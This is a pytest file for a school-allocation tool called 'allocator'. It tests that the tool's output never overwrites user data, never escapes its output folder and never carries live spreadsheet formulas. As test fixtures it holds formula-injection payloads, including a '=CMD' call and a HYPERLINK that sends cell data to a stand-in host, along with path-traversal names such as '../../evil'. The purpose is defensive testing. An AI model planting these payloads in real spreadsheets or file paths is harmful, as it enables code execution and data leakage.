"""Outputs never destroy what allocator did not write, never leave the output folder, never run in
Excel, and a run whose step fails keeps the finished steps.

File-system cases compare the whole tree (paths, modes, contents) before and after.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import allocator
from allocator.check import check
from allocator.cli import main
from allocator.compare import compare_scenario
from allocator.errors import Infeasible, InputError
from allocator.io import load_region, save_region
from allocator.outputs import MARKER, check_target, output_folder
from allocator.pipeline import run_scenario
from allocator.scenario import register_planner, unregister_planner
from allocator.sheets import (
    inside,
    neutralise_frame,
    neutralise_text,
    restore_frame,
    restore_text,
    sheet_names,
    slug,
    unique_slugs,
)
from allocator.synth import make_region
from allocator.writers import write_comparison, write_run

ROOT = Path(__file__).resolve().parents[1]
EVIL = [
    '=CMD("calc")',
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "'=already quoted",
]


# --------------------------------------------------------------------------- helpers
def snapshot(root: Path) -> dict:
    """Every path under ``root`` (and root itself) -> (kind, mode, contents or link target)."""
    out = {".": ("dir", stat.S_IMODE(os.lstat(root).st_mode))}
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(dirpath, name)
            rel = os.path.relpath(path, root)
            st_ = os.lstat(path)
            mode = stat.S_IMODE(st_.st_mode)
            if stat.S_ISLNK(st_.st_mode):
                out[rel] = ("link", mode, os.readlink(path))
            elif stat.S_ISDIR(st_.st_mode):
                out[rel] = ("dir", mode)
            else:
                out[rel] = ("file", mode, Path(path).read_bytes())
    return out


@dataclass(frozen=True)
class NotePolicy:
    fail: bool = False


@dataclass
class NotePlan:
    schools: pd.DataFrame

    @property
    def tables(self):
        return {"schools": self.schools, "notes": pd.DataFrame({"note": ["=1+1", "fine"]})}

    def summary(self):
        return f"{len(self.schools)} schools noted"

    def headline(self):
        return {"schools": len(self.schools)}

    def apply(self, region):
        return region


def plan_note(region, policy=None, options=None, progress=None):
    if policy is not None and policy.fail:
        raise Infeasible("the rotation quota needs 7 more teachers than exist", {"quota": 7.0})
    return NotePlan(region.schools[["school_id", "name", "county"]].copy())


@pytest.fixture
def note():
    register_planner("note", plan_note, NotePolicy)
    yield
    unregister_planner("note")


@pytest.fixture
def work(tmp_path, monkeypatch):
    """A user's working folder with a scenario, region data and a notes file; it is the cwd."""
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    region = make_region(schools=30, counties=1, seed=2)
    save_region(region, folder / "data")
    (folder / "data" / MARKER).unlink()  # the bureau's data: not written by allocator
    (folder / "notes.txt").write_text("my notes\n", encoding="utf-8")
    (folder / "my.toml").write_text(scenario_text(), encoding="utf-8")
    return folder


def scenario_text(steps=("note",), fail=None, output=None, data='"data"', variants=()) -> str:
    lines = ['name = "Test"', "[region]", f"data = {data}", ""]
    for i, name in enumerate(steps):
        lines += ["[[steps]]", 'planner = "note"', f"name = {json.dumps(name)}"]
        if fail == i:
            lines.append("fail = true")
        lines.append("")
    for v in variants:
        lines += ["[[variants]]", f"name = {json.dumps(v)}", ""]
    if output is not None:
        lines += ["[output]", *output]
    return "\n".join(lines) + "\n"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def one_line_error(capsys, *needles):
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    for needle in needles:
        assert needle in err, err
    return err


# --------------------------------------------------------------------------- 1. never destroy
def test_run_refuses_an_existing_folder_it_did_not_write(note, work, tmp_path, capsys):
    (work / "some" / "folder").mkdir(parents=True)
    (work / "some" / "folder" / "plan.docx").write_bytes(b"\x00\x01 bureau plan")
    (work / "some" / "sibling.txt").write_text("keep")
    before = snapshot(tmp_path)
    for extra in ([], ["--force"]):
        assert main(["run", "my.toml", "--out", "some/folder", "--quiet", *extra]) == 2
        one_line_error(
            capsys, "some/folder: a folder allocator did not write is there", "plan.docx"
        )
        assert snapshot(tmp_path) == before


@pytest.mark.parametrize("out", [".", "..", "work", "/", "~"])
def test_the_current_folder_and_its_ancestors_are_never_replaced(note, work, tmp_path, capsys, out):
    out = str(Path(out).expanduser()) if out == "~" else out
    out = str(work) if out == "work" else out
    before = snapshot(tmp_path)
    for command in (["run", "my.toml"], ["synth"], ["check", "data"]):
        argv = [*command, "--out", out] if command[0] != "synth" else ["synth", out]
        assert main([*argv, "--force"]) == 2
        err = one_line_error(capsys, "allocator never writes its output over it")
        assert "PosixPath" not in err and "OSError" not in err
        assert snapshot(tmp_path) == before


def test_the_data_folder_of_a_scenario_is_never_its_output(note, work, tmp_path, capsys):
    (work / "my.toml").write_text(scenario_text(output=['folder = "data"']), encoding="utf-8")
    before = snapshot(tmp_path)
    assert main(["run", "my.toml", "--quiet"]) == 2
    one_line_error(capsys, "data: this is the region data")
    assert snapshot(tmp_path) == before
    # even when allocator wrote the data folder (it carries the marker) and --force is given
    assert main(["synth", "gen", "--schools", "30"]) == 0
    (work / "gen.toml").write_text(
        scenario_text(data='"gen"', output=['folder = "gen"']), encoding="utf-8"
    )
    (work / "nested.toml").write_text(
        scenario_text(data='"gen"', output=['folder = "."']), encoding="utf-8"
    )
    capsys.readouterr()
    before = snapshot(tmp_path)
    assert main(["run", "gen.toml", "--quiet", "--force"]) == 2
    one_line_error(capsys, "gen: this is the region data")
    assert main(["run", "nested.toml", "--quiet", "--force"]) == 2
    one_line_error(capsys, "this is the current folder")
    assert snapshot(tmp_path) == before


def test_the_scenario_folder_is_never_the_output(note, work, tmp_path, capsys):
    sub = work / "scen"
    sub.mkdir()
    (sub / "s.toml").write_text(scenario_text(data='"../data"'), encoding="utf-8")
    before = snapshot(tmp_path)
    assert main(["run", "scen/s.toml", "--out", "scen", "--quiet", "--force"]) == 2
    one_line_error(capsys, "scen: this is the scenario's folder")
    assert snapshot(tmp_path) == before


def test_check_never_writes_over_its_region(work, tmp_path, capsys):
    before = snapshot(tmp_path)
    for out in ("data", str(work), "."):
        for extra in ([], ["--force"]):
            assert main(["check", "data", "--out", out, *extra]) == 2
            one_line_error(capsys, "allocator never writes its output over it")
            assert snapshot(tmp_path) == before
    assert (work / "data" / "settlements.csv").exists()


def test_an_out_that_is_a_file_is_refused(note, work, tmp_path, capsys):
    before = snapshot(tmp_path)
    for argv in (
        ["run", "my.toml", "--out", "notes.txt", "--quiet", "--force"],
        ["check", "data", "--out", "notes.txt", "--force"],
        ["synth", "notes.txt", "--force"],
    ):
        assert main(argv) == 2
        one_line_error(capsys, "notes.txt: a file is there", "never replaces a file")
        assert snapshot(tmp_path) == before
    assert main(["check", "data", "--out", "notes.txt/sub"]) == 2
    out = capsys.readouterr()
    assert out.out == ""  # refused before the region was even read
    assert out.err.count("\n") == 1 and "notes.txt is a file, not a folder" in out.err
    assert snapshot(tmp_path) == before


def test_synth_never_empties_a_user_folder(work, tmp_path, capsys):
    before = snapshot(tmp_path)
    assert main(["synth", "data", "--force"]) == 2
    one_line_error(capsys, "data: a folder allocator did not write is there", "4 entries")
    assert snapshot(tmp_path) == before


def test_own_output_is_replaced_by_default_changed_or_foreign_output_needs_force(
    work, tmp_path, capsys
):
    assert main(["synth", "gen", "--schools", "30", "--seed", "1"]) == 0
    first = snapshot(work / "gen")
    assert main(["synth", "gen", "--schools", "40", "--seed", "1"]) == 0  # own, unchanged
    assert len(load_region(work / "gen").schools) == 40 and snapshot(work / "gen") != first
    capsys.readouterr()
    # changed since it was written: needs --force
    with open(work / "gen" / "schools.csv", "a", encoding="utf-8") as f:
        f.write("\n")
    (work / "gen" / "mine.txt").write_text("added by hand")
    before = snapshot(tmp_path)
    assert main(["synth", "gen", "--schools", "30"]) == 2
    one_line_error(capsys, "changed since it was written", "mine.txt added", "schools.csv changed")
    assert snapshot(tmp_path) == before
    # another command's output: needs --force
    assert main(["check", "data", "--out", "gen"]) == 2
    one_line_error(capsys, "the output of allocator synth (save_region) is there", "--force")
    assert snapshot(tmp_path) == before
    assert main(["check", "data", "--out", "gen", "--force"]) == 0
    assert json.loads((work / "gen" / MARKER).read_text())["command"] == "check"
    assert not (work / "gen" / "mine.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["work"]
    assert sorted(p.name for p in work.iterdir()) == ["data", "gen", "my.toml", "notes.txt"]


def test_run_replaces_its_own_output_but_not_another_scenarios(note, work, tmp_path, capsys):
    assert main(["run", "my.toml", "--out", "res", "--quiet"]) == 0
    marker = json.loads((work / "res" / MARKER).read_text())
    assert marker["command"] == "run" and marker["source"] == str(work / "my.toml")
    assert marker["complete"] is True
    assert set(marker["files"]) == {
        p.relative_to(work / "res").as_posix()
        for p in (work / "res").rglob("*")
        if p.is_file() and p.name != MARKER
    }
    assert main(["run", "my.toml", "--out", "res", "--quiet"]) == 0
    (work / "other.toml").write_text(scenario_text(), encoding="utf-8")
    capsys.readouterr()
    before = snapshot(tmp_path)
    assert main(["run", "other.toml", "--out", "res", "--quiet"]) == 2
    one_line_error(capsys, f"for {work / 'my.toml'} is there", "--force")
    assert snapshot(tmp_path) == before
    assert main(["run", "other.toml", "--out", "res", "--quiet", "--force"]) == 0
    assert json.loads((work / "res" / MARKER).read_text())["source"] == str(work / "other.toml")


def test_an_empty_folder_is_filled(note, work):
    (work / "empty").mkdir()
    assert main(["run", "my.toml", "--out", "empty", "--quiet"]) == 0
    assert (work / "empty" / "report.html").exists()


def test_python_api_raises_input_error_in_the_same_cases(note, work, tmp_path):
    region = load_region(work / "data")
    report = check(region)
    result = run_scenario(work / "my.toml", write=False)
    user = work / "user"
    user.mkdir()
    (user / "keep.txt").write_text("keep")
    before = snapshot(tmp_path)
    calls = [
        lambda t: save_region(region, t, force=True),
        lambda t: report.to_csv(t, force=True),
        lambda t: run_scenario(work / "my.toml", out=t, force=True),
        lambda t: write_run(result, t, force=True),
    ]
    for call in calls:
        for target, message in (
            (user, "a folder allocator did not write is there"),
            (work, "this is the current folder"),
            (work / "notes.txt", "a file is there"),
            (work / "data", "a folder allocator did not write is there|is the region data"),
        ):
            with pytest.raises(InputError, match=message):
                call(target)
            assert snapshot(tmp_path) == before
    with pytest.raises(InputError, match="this is the region data"):
        run_scenario(work / "my.toml", out=work / "data", force=True)
    with pytest.raises(InputError, match="this is the region data"):
        report.to_csv(work / "data", force=True, source=work / "data")
    with pytest.raises(InputError, match="a file allocator did not write is there"):
        save_region(region, work / "notes.txt.xlsx") if (work / "notes.txt.xlsx").write_text(
            "x"
        ) else None
    assert (work / "notes.txt.xlsx").read_text() == "x"


def test_write_comparison_raises_input_error_for_a_user_folder(note, work, tmp_path):
    (work / "my.toml").write_text(scenario_text(variants=("a",)), encoding="utf-8")
    comparison = compare_scenario(work / "my.toml", write=False, workers=1)
    before = snapshot(tmp_path)
    with pytest.raises(InputError, match="this is the region data"):
        write_comparison(comparison, work / "data", force=True)
    with pytest.raises(InputError, match="a file is there"):
        write_comparison(comparison, work / "notes.txt", force=True)
    with pytest.raises(InputError, match="this is the current folder"):
        compare_scenario(work / "my.toml", out=work, workers=1, force=True)
    assert snapshot(tmp_path) == before


def test_permission_and_rename_failures_are_one_line_and_leave_nothing(
    note, work, tmp_path, capsys, monkeypatch
):
    assert main(["run", "my.toml", "--out", "res", "--quiet"]) == 0
    before = snapshot(tmp_path)
    real_mkdir = os.mkdir

    def no_mkdir(path, *args, **kwargs):
        if ".allocator-tmp-" in str(path):
            raise PermissionError(13, "Permission denied")
        return real_mkdir(path, *args, **kwargs)

    monkeypatch.setattr(os, "mkdir", no_mkdir)
    assert main(["run", "my.toml", "--out", "res", "--quiet"]) == 2
    one_line_error(capsys, "res: cannot write beside it: Permission denied")
    assert snapshot(tmp_path) == before
    monkeypatch.setattr(os, "mkdir", real_mkdir)

    real_replace = os.replace

    def no_rename(src, dst):
        if ".allocator-tmp-" in str(src):
            raise OSError(18, "Invalid cross-device link")
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", no_rename)
    assert main(["run", "my.toml", "--out", "res", "--quiet"]) == 2
    one_line_error(capsys, "res: cannot move the output into place: Invalid cross-device link")
    assert snapshot(tmp_path) == before  # the earlier output is back in place, whole
    # a new nested target: the parents it created are removed again
    assert main(["run", "my.toml", "--out", "a/b/c", "--quiet"]) == 2
    capsys.readouterr()
    assert snapshot(tmp_path) == before


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes anywhere")
def test_an_unwritable_out_is_one_line(note, work, tmp_path, capsys):  # pragma: no cover
    locked = work / "locked"
    locked.mkdir(mode=0o555)
    before = snapshot(tmp_path)
    assert main(["run", "my.toml", "--out", "locked/out", "--quiet"]) == 2
    one_line_error(capsys, "permission denied")
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("umask", [0o022, 0o027, 0o002])
def test_folders_get_the_users_normal_permissions(tmp_path, umask):
    old = os.umask(umask)
    try:
        with output_folder(tmp_path / "a" / "b" / "out", "check") as tmp:
            (tmp / "x.txt").write_text("x")
            sub = tmp / "sub"
            sub.mkdir()
    finally:
        os.umask(old)
    for folder in ("a", "a/b", "a/b/out", "a/b/out/sub"):
        assert stat.S_IMODE(os.stat(tmp_path / folder).st_mode) == 0o777 & ~umask, folder
    assert stat.S_IMODE(os.stat(tmp_path / "a/b/out/x.txt").st_mode) == 0o666 & ~umask


def test_an_exception_while_writing_leaves_nothing(tmp_path):
    (tmp_path / "keep").mkdir()
    before = snapshot(tmp_path)
    with pytest.raises(RuntimeError), output_folder(tmp_path / "x" / "y", "check") as tmp:
        (tmp / "half.csv").write_text("half")
        raise RuntimeError("boom")
    assert snapshot(tmp_path) == before


# --------------------------------------------------------------------------- signals
def test_signal_handlers_are_restored_and_an_ignored_signal_stays_ignored(tmp_path):
    def mine(signum, frame):  # pragma: no cover - never called
        pass

    saved = signal.signal(signal.SIGTERM, mine)
    saved_int = signal.signal(signal.SIGINT, signal.SIG_IGN)
    try:
        with output_folder(tmp_path / "out", "check") as tmp:
            assert signal.getsignal(signal.SIGTERM) not in (mine, signal.SIG_DFL)
            assert signal.getsignal(signal.SIGINT) == signal.SIG_IGN
            (tmp / "a.txt").write_text("a")
        assert signal.getsignal(signal.SIGTERM) is mine
        assert signal.getsignal(signal.SIGINT) == signal.SIG_IGN
        with pytest.raises(RuntimeError), output_folder(tmp_path / "out2", "check"):
            raise RuntimeError
        assert signal.getsignal(signal.SIGTERM) is mine
    finally:
        signal.signal(signal.SIGTERM, saved)
        signal.signal(signal.SIGINT, saved_int)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def _spawn(argv, cwd, pause):
    env = dict(os.environ, PYTHONPATH=str(ROOT), ALLOCATOR_PAUSE_FOR_TEST=pause)
    proc = subprocess.Popen(
        [sys.executable, "-m", "allocator.cli", *argv],
        cwd=cwd,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    lines = []
    for line in proc.stderr:
        lines.append(line)
        if line.startswith("paused at"):
            return proc, lines
    proc.wait(timeout=60)
    raise AssertionError(f"never paused: {''.join(lines)}")


@pytest.mark.parametrize("sig,code", [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
@pytest.mark.slow
def test_a_signal_during_the_final_write_leaves_nothing_behind(tmp_path, sig, code):
    subprocess.run(
        [sys.executable, "-m", "allocator.cli", "synth", "out1", "--schools", "20"],
        cwd=tmp_path,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
        check=True,
        capture_output=True,
    )
    before = snapshot(tmp_path)
    proc, _ = _spawn(["synth", "out1", "--schools", "30"], tmp_path, "before-move")
    proc.send_signal(sig)
    assert proc.wait(timeout=60) == code
    proc.stderr.close()
    assert snapshot(tmp_path) == before  # the earlier output whole, no hidden .out1.* folder


@pytest.mark.slow
def test_a_signal_while_the_output_moves_waits_for_the_move(tmp_path):
    subprocess.run(
        [sys.executable, "-m", "allocator.cli", "synth", "out1", "--schools", "20"],
        cwd=tmp_path,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
        check=True,
        capture_output=True,
    )
    proc, _ = _spawn(["synth", "out1", "--schools", "30"], tmp_path, "during-move:2")
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=60) == 143
    proc.stderr.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out1"]
    assert len(load_region(tmp_path / "out1").schools) == 30  # the new output, whole
    check_target(tmp_path / "out1", "region")  # unchanged since written: marker and files agree


@pytest.mark.slow
def test_sigterm_during_a_runs_final_write(tmp_path):
    (tmp_path / "s.toml").write_text(
        "[region]\nschools = 20\ncounties = 1\nseed = 1\n"
        '[[steps]]\nplanner = "budget"\nbudget = 1e6\nrelax = true\n',
        encoding="utf-8",
    )
    (tmp_path / "out").mkdir()
    before = snapshot(tmp_path)
    proc, _ = _spawn(["run", "s.toml", "--out", "out", "--quiet"], tmp_path, "before-move")
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=60) == 143
    proc.stderr.close()
    assert snapshot(tmp_path) == before


# --------------------------------------------------------------------------- 2. names and cells
def test_step_names_cannot_write_outside_the_output_folder(note, work, tmp_path):
    absolute = str(tmp_path / "any" / "absolute" / "path" / "pwned")
    names = (absolute, "../../evil", "预算 step")
    (work / "my.toml").write_text(
        scenario_text(steps=names, output=['formats = ["html", "csv", "json", "xlsx"]']),
        encoding="utf-8",
    )
    before = {k: v for k, v in snapshot(tmp_path).items() if not k.startswith("work/res")}
    result = run_scenario(work / "my.toml", out=work / "res")
    after = {k: v for k, v in snapshot(tmp_path).items() if not k.startswith("work/res")}
    assert after == before  # nothing written anywhere but inside the output folder
    assert list(result.plans) == list(names)  # the names as written, for display
    pwned = slug(absolute)
    files = sorted(p.name for p in (work / "res").iterdir())
    assert f"{pwned}.schools.csv" in files and "evil.schools.csv" in files
    assert "预算_step.notes.csv" in files
    html = (work / "res" / "report.html").read_text(encoding="utf-8")
    assert "../../evil" in html and f" {pwned}.schools.csv" in html


def test_variant_names_cannot_write_outside_the_output_folder(note, work, tmp_path):
    (work / "my.toml").write_text(
        scenario_text(variants=("../../evil", "/etc/pwned")), encoding="utf-8"
    )
    before = {k: v for k, v in snapshot(tmp_path).items() if not k.startswith("work/cmp")}
    comparison = compare_scenario(work / "my.toml", out=work / "cmp", workers=1)
    after = {k: v for k, v in snapshot(tmp_path).items() if not k.startswith("work/cmp")}
    assert after == before
    assert set(comparison.results) == {"../../evil", "/etc/pwned"}
    assert {p.name for p in (work / "cmp").iterdir() if p.is_dir()} == {"evil", "etc_pwned"}


@pytest.mark.parametrize(
    "steps,variants,message",
    [
        (("a b", "a_b"), (), "step names 'a b' and 'a_b' give the same file name 'a_b'"),
        (("Budget", "budget"), (), "give the same file name"),
        (("x",), ("rural priority", "rural_priority"), "variant names"),
        (("a\nb",), (), "control character"),
        (("  ",), (), "empty step name"),
        (("x" * 101,), (), "step name of 101 characters; expected at most 100"),
    ],
)
def test_step_and_variant_names_are_validated(
    note, work, tmp_path, capsys, steps, variants, message
):
    (work / "my.toml").write_text(scenario_text(steps=steps, variants=variants), encoding="utf-8")
    before = snapshot(tmp_path)
    assert main(["run", "my.toml", "--quiet"]) == 2
    one_line_error(capsys, "my.toml, line ", message)
    assert snapshot(tmp_path) == before


def _evil_region():
    region = make_region(schools=30, counties=1, seed=2)
    schools = region.schools.copy()
    for i, name in enumerate(EVIL):
        schools.loc[i, "name"] = name
    schools.loc[len(EVIL), "name"] = "O'Brien's -free- school"
    return region.replace(schools=schools)


def test_xlsx_and_csv_outputs_hold_no_live_formula(note, work):
    save_region(_evil_region(), work / "evil", force=True)
    (work / "my.toml").write_text(
        scenario_text(
            data='"evil"',
            output=['formats = ["html", "csv", "json", "xlsx", "region"]'],
        ),
        encoding="utf-8",
    )
    run_scenario(work / "my.toml", out=work / "res")
    book = openpyxl.load_workbook(work / "res" / "tables.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + EVIL[0] in texts and "'" + EVIL[1] in texts and "'=1+1" in texts
    assert "''=already quoted" in texts and "O'Brien's -free- school" in texts
    for path in (work / "res").rglob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
                    assert not cell.startswith("-") or _is_number(cell), (path, cell)
    # and what was written reads back exactly
    back = load_region(work / "res" / "region_after")
    assert back.schools["name"].tolist() == _evil_region().schools["name"].tolist()
    plan = pd.read_csv(work / "res" / "note.schools.csv", encoding="utf-8-sig", dtype=str)
    assert restore_frame(plan)["name"].tolist() == _evil_region().schools["name"].tolist()


@pytest.mark.parametrize("name", ["r.xlsx", "r"])
def test_save_then_load_region_is_exact_with_formula_like_names(tmp_path, name):
    region = _evil_region()
    save_region(region, tmp_path / name)
    back = load_region(tmp_path / name)
    expected = region.schools["name"].tolist()
    if name.endswith(".xlsx"):  # XML stores a carriage return as a line feed
        expected = [n.replace("\r", "\n") for n in expected]
    assert back.schools["name"].tolist() == expected
    if name.endswith(".xlsx"):
        back = back.replace(schools=back.schools.assign(name=region.schools["name"]))
    assert back == region
    if name.endswith(".xlsx"):
        book = openpyxl.load_workbook(tmp_path / name)
        assert not [
            c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
        ]
        with pytest.raises(InputError, match="a workbook allocator wrote earlier is there"):
            save_region(region, tmp_path / name)
        save_region(region, tmp_path / name, force=True)
        assert sorted(p.name for p in tmp_path.iterdir()) == [name]


def test_a_long_step_name_keeps_each_table_on_its_own_sheet(note, work):
    long = "a step name well beyond thirty-one characters"
    (work / "my.toml").write_text(
        scenario_text(
            steps=(long, long + " too"), output=['formats = ["xlsx"]', 'language = "en"']
        ),
        encoding="utf-8",
    )
    result = run_scenario(work / "my.toml", out=work / "res")
    book = openpyxl.load_workbook(work / "res" / "tables.xlsx")
    assert len(book.sheetnames) == len(result.tables) + 2  # the summary and the county verdicts
    assert all(len(s) <= 31 for s in book.sheetnames)
    sheets = sheet_names(["summary", "county verdicts", *result.tables])
    for key, df in result.tables.items():
        header = [c.value for c in next(book[sheets[key]].iter_rows(max_row=1))]
        assert header == [str(c) for c in df.columns], key


def test_sheet_names_are_unique_ignoring_case_and_short():
    names = ["x" * 40 + ".a", "x" * 40 + ".b", "History", "a/b", "A/B", "'q'"]
    sheets = sheet_names(names)
    values = list(sheets.values())
    assert len({v.lower() for v in values}) == len(values)
    assert all(0 < len(v) <= 31 and not set(v) & set("[]:*?/\\") for v in values)
    assert sheets["History"] != "History" and sheets["'q'"] == "q"


@given(st.text(max_size=12))
def test_neutralised_text_reads_back_exactly_and_never_starts_a_formula(text):
    out = neutralise_text(text)
    assert restore_text(out) == text
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    if out != text:
        assert out == "'" + text


def test_neutralise_frame_leaves_numbers_and_the_input_alone():
    df = pd.DataFrame({"=h": ["-1", None, "a"], "n": [-1.0, 2.0, -3.0], "c": ["x", "@y", "z"]})
    df["c"] = df["c"].astype("category")
    out = neutralise_frame(df)
    assert list(out.columns) == ["'=h", "n", "c"]
    assert out["'=h"].tolist()[0] == "'-1" and pd.isna(out["'=h"].tolist()[1])
    assert out["n"].tolist() == [-1.0, 2.0, -3.0] and out["c"].tolist() == ["x", "'@y", "z"]
    assert df["c"].tolist() == ["x", "@y", "z"] and list(df.columns) == ["=h", "n", "c"]
    pd.testing.assert_frame_equal(restore_frame(out), df)


@given(st.text(max_size=30))
def test_slugs_are_safe_file_names(text):
    s = slug(text)
    assert s and s not in (".", "..") and "/" not in s and "\\" not in s and "\x00" not in s
    assert len(s.encode("utf-8")) <= 64
    assert inside("out", f"{s}.csv").parent == Path("out")


def test_unique_slugs_and_inside():
    assert unique_slugs(["a b", "a_b", "a?b"]) == {"a b": "a_b", "a_b": "a_b-2", "a?b": "a_b-3"}
    for bad in ("../x", "/etc/passwd", "..", ""):
        with pytest.raises(InputError, match="leaves the output folder"):
            inside("out", bad)


# --------------------------------------------------------------------------- 4. finished work is kept
def test_a_failing_last_step_keeps_the_three_finished_plans(note, work, tmp_path, capsys):
    names = ("merge", "draw", "fund", "staff")
    (work / "my.toml").write_text(scenario_text(steps=names, fail=3), encoding="utf-8")
    assert main(["run", "my.toml", "--out", "res", "--quiet"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "step 4/4 staff (note): the rotation quota needs 7 more teachers than exist" in err
    assert "the finished steps (merge, draw, fund) are written to res (marked incomplete)" in err
    res = work / "res"
    data = json.loads((res / "result.json").read_text(encoding="utf-8"))
    assert data["complete"] is False
    assert [s["name"] for s in data["steps"]] == ["merge", "draw", "fund"]
    assert data["failure"] == {
        "step": "staff",
        "index": 4,
        "planner": "note",
        "error": "Infeasible",
        "message": "the rotation quota needs 7 more teachers than exist",
    }
    assert data["stages"] == ["before", "after merge", "after draw", "after fund"]
    for step in ("merge", "draw", "fund"):
        assert (res / f"{step}.schools.csv").exists()
    assert not list(res.glob("staff.*"))
    marker = json.loads((res / MARKER).read_text())
    assert marker["complete"] is False and marker["failure"]["step"] == "staff"
    html = (res / "report.html").read_text(encoding="utf-8")
    assert "id='incomplete'" in html and "the rotation quota needs 7 more teachers" in html
    assert html.index("id='incomplete'") < html.index("id='verdict'") < html.index("id='summary'")
    assert sorted(p.name for p in work.iterdir()) == ["data", "my.toml", "notes.txt", "res"]
    # the next successful run replaces the incomplete output (its own, unchanged)
    (work / "my.toml").write_text(scenario_text(steps=names), encoding="utf-8")
    assert main(["run", "my.toml", "--out", "res", "--quiet"]) == 0
    assert json.loads((res / "result.json").read_text(encoding="utf-8"))["complete"] is True


def test_a_failing_first_step_writes_the_region_before_and_the_diagnosis(note, work):
    (work / "my.toml").write_text(scenario_text(steps=("a", "b"), fail=0), encoding="utf-8")
    with pytest.raises(Infeasible, match=r"the finished steps \(none\) are written") as info:
        run_scenario(work / "my.toml", out=work / "res")
    partial = info.value.partial
    assert partial.out == work / "res" and not partial.complete and partial.steps == []
    assert "INCOMPLETE: step 1 a failed" in partial.summary()
    data = json.loads((work / "res" / "result.json").read_text(encoding="utf-8"))
    assert data["complete"] is False and data["stages"] == ["before"]
    html = (work / "res" / "report.html").read_text(encoding="utf-8")
    assert "没有步骤完成" in html  # the region's names are Chinese, so is the report


def test_without_write_a_failing_step_writes_nothing(note, work, tmp_path):
    (work / "my.toml").write_text(scenario_text(steps=("a", "b"), fail=1), encoding="utf-8")
    before = snapshot(tmp_path)
    with pytest.raises(Infeasible) as info:
        run_scenario(work / "my.toml", write=False)
    assert "written" not in str(info.value) and len(info.value.partial.steps) == 1
    assert snapshot(tmp_path) == before


def test_the_readme_names_the_rules():
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "## What allocator writes, and what it never touches" in text
    assert MARKER in text and "--force" in text
    assert allocator.__version__


def test_a_chart_never_replaces_a_file_of_the_users_but_redraws_its_own(tmp_path):
    from allocator.report import plot_budget_frontier as plot_frontier

    frontier = pd.DataFrame(
        {
            "budget": [0.0, 1e6],
            "parts_passing": [3, 5],
            "parts_in_scope": [8, 8],
            "max_shortfall": [0.6, 0.4],
        }
    )
    mine = tmp_path / "frontier.png"
    mine.write_bytes(b"the bureau's own picture")
    before = snapshot(tmp_path)
    with pytest.raises(InputError, match="did not write"):
        plot_frontier(frontier, mine)
    assert snapshot(tmp_path) == before
    out = tmp_path / "chart.png"
    plot_frontier(frontier, out)
    first = out.read_bytes()
    assert first.startswith(b"\x89PNG")
    plot_frontier(frontier.assign(max_shortfall=[0.9, 0.1]), out)  # its own chart: drawn again
    assert out.read_bytes() != first
    pdf = tmp_path / "chart.pdf"
    plot_frontier(frontier, pdf)
    with pytest.raises(InputError, match="did not write"):  # no marker in a PDF: never replaced
        plot_frontier(frontier, pdf)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["chart.pdf", "chart.png", "frontier.png"]
